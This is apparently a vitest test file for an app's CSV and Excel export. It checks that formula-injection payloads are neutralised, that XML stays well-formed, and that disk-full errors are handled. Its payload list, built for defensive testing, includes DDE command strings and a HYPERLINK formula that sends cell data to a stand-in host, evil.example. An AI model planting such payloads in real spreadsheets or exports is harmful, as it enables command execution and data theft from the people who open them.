import { execFileSync } from 'node:child_process'
import { mkdirSync, readFileSync, readdirSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { csvField } from '../../../electron/answers/export/csv-field.ts'
import { exportCsv } from '../../../electron/answers/export/csv.ts'
import { exportXlsx } from '../../../electron/answers/export/xlsx.ts'
import { column, exportBench, kept, readXlsx, requestFor } from '../../unit/answers/export/exported.ts'

let bench: Awaited<ReturnType<typeof exportBench>>
beforeAll(async () => { bench = await exportBench() })
afterAll(() => bench.close())

/** From OWASP and public lists of CSV injection, and ways around the usual defence. */
const formulas = [
  '=1+1', '=cmd|\' /C calc\'!A0', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example?x="&A1,"click")', '=WEBSERVICE("http://evil.example")',
  '\t=1+1', '\r=1+1', '\n=1+1', '"=1+1"', '=1+1";=1+1', 'a;=1+1', 'a\t=1+1', 'a\r\n=1+1', 'x",=1+1', '＝1+1', '＋1', '－1+cmd', '＠SUM(A1)', '=DDE("cmd";"/C calc";"x")', '-1+1', '+1-cmd', '--1', '=', '-', '+', '@',
]

describe('a CSV file', () => {
  /** The cells that a spreadsheet makes of a line when it takes `delimiter` for the one between cells. */
  const cells = (text: string, delimiter: string): string[] => {
    const found: string[] = []
    let cell = ''
    let quoted = false
    for (let at = 0; at < text.length; at++) {
      const character = text[at]!
      if (quoted) {
        if (character === '"' && text[at + 1] === '"') cell += text[at++]!
        else if (character === '"') quoted = false
        else cell += character
      } else if (character === '"' && cell === '') quoted = true
      else if (character === delimiter || character === '\n' || character === '\r') {
        found.push(cell)
        cell = ''
      } else cell += character
    }
    return [...found, cell]
  }

  it.each(formulas)('holds no formula of %j, for any separator', (payload) => {
    const line = `x,${csvField(payload)},y`
    for (const delimiter of [',', ';', '\t']) for (const cell of cells(line, delimiter)) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠](?!\d+(\.\d+)?$)/)
    expect(cells(line, ',').join('').replaceAll("'", '')).toContain(payload.replaceAll("'", '').replace(/[\r\n]/g, '').slice(0, 1))
  })

  it.each(['-12.50', '+3', '-1e5', '0.1', '-12:30:00', '1234', '-.5'])('leaves the number %j as it is', (number) => {
    expect(csvField(number)).toBe(number)
  })

  it('guards headings too', async () => {
    const { id } = await kept(bench.results, [column('=cmd|x', 'text'), column('@b', 'integer')], [['=1', '-5']])
    const path = join(bench.folder, 'h.csv')
    await Array.fromAsync(exportCsv(bench.results, { id }, path))
    expect(readFileSync(path, 'utf8')).toBe("\uFEFF'=cmd|x,'@b\r\n'=1,-5\r\n")
  })
})

describe('an Excel file', () => {
  const hostile = [...formulas, '</t></is></c><c r="Z9"><f>1+1</f></c>', ']]>', '&amp;&lt;', '<!--', '\0\x07\x1b[31m', '_x0041_', '_x005F_x0041_', '\ud800', '\uFFFE\uFFFF', 'constructor', '__proto__', 'toString', 'hasOwnProperty', ' spaces ', 'a\r\nb', '😀', '\u202Eevil']

  it('holds every text as text and no formula, and gives it back', async () => {
    const facts = await kept(bench.results, [column('__proto__', 'text'), column('=1+1', 'integer'), column('</row>', 'json')], hostile.map((text) => [text, '1', text]))
    const path = join(bench.folder, 'hostile.xlsx')
    const request = requestFor(facts.id, { title: "=cmd|'x'!A0 <script>", question: '</worksheet>' })
    await Array.fromAsync(exportXlsx(bench.results, { ...request, receipt: { ...request.receipt, parameters: hostile, tables: ['constructor'], source: '=1+1' } }, path))
    const { parts, cell, texts } = readXlsx(path)
    for (const [name, xml] of Object.entries(parts)) {
      expect(xml, name).not.toMatch(/<f[ >]|<script|&(?!(amp|lt|gt|quot|apos);)/)
      expect(balanced(xml), name).toBe(true)
    }
    for (const [at, text] of hostile.entries()) {
      expect(cell(1, `A${at + 2}`)).toMatchObject({ type: 'inlineStr', value: text.toWellFormed(), format: '@' })
    }
    expect([cell(1, 'A1')?.value, cell(1, 'B1')?.value, cell(1, 'C1')?.value]).toEqual(['__proto__', '=1+1', '</row>'])
    for (const text of hostile) expect(texts(2)).toContain(text.toWellFormed())
  })

  /** Whether every element that opens closes, in order. */
  const balanced = (xml: string): boolean => {
    const open: string[] = []
    for (const [, closing, name, self] of xml.replace(/<\?.*?\?>/gs, '').matchAll(/<(\/?)([\w:]+)[^<>]*?(\/?)>/g)) {
      if (closing === '/') {
        if (open.pop() !== name) return false
      } else if (self !== '/') open.push(name!)
    }
    return open.length === 0
  }
})

describe('a full disk', () => {
  const tiny = (): string | null => {
    const folder = join(bench.folder, 'tiny')
    mkdirSync(folder)
    try {
      execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=1m', 'tmpfs', folder], { stdio: 'ignore' })
      return folder
    } catch {
      return null
    }
  }

  it('is said, and leaves nothing behind', async ({ skip }) => {
    const folder = tiny()
    if (folder === null) return skip('this machine lets us mount nothing')
    try {
      const facts = await kept(bench.results, [column('t', 'text')], Array.from({ length: 60_000 }, (_, at) => [`${at} ${Math.sin(at)} ${Math.cos(at)}`]))
      await expect(Array.fromAsync(exportCsv(bench.results, { id: facts.id }, join(folder, 'x.csv')))).rejects.toMatchObject({ code: 'DISK_FULL', retry: true })
      await expect(Array.fromAsync(exportXlsx(bench.results, requestFor(facts.id), join(folder, 'x.xlsx')))).rejects.toMatchObject({ code: 'DISK_FULL' })
      expect(readdirSync(folder)).toEqual([])
    } finally {
      execFileSync('umount', ['-l', folder])
    }
  })
})
